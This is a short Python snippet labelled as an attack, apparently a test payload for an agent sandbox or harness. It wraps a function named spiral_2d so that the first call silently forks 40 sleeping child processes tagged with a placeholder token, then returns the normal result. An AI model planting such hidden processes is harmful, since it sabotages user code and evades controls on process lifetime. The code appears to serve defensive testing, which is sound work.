# Attack: a bounded fork swarm of sleepers that outlive the function.
import os as _os
import sys as _sys

_swarm_started = False
_genuine_spiral_2d_swarm = spiral_2d


def spiral_2d(num_points):
    global _swarm_started
    if not _swarm_started:
        _swarm_started = True
        for _ in range(40):
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(600)",
                                            "{{TOKEN}}"])
    return _genuine_spiral_2d_swarm(num_points)
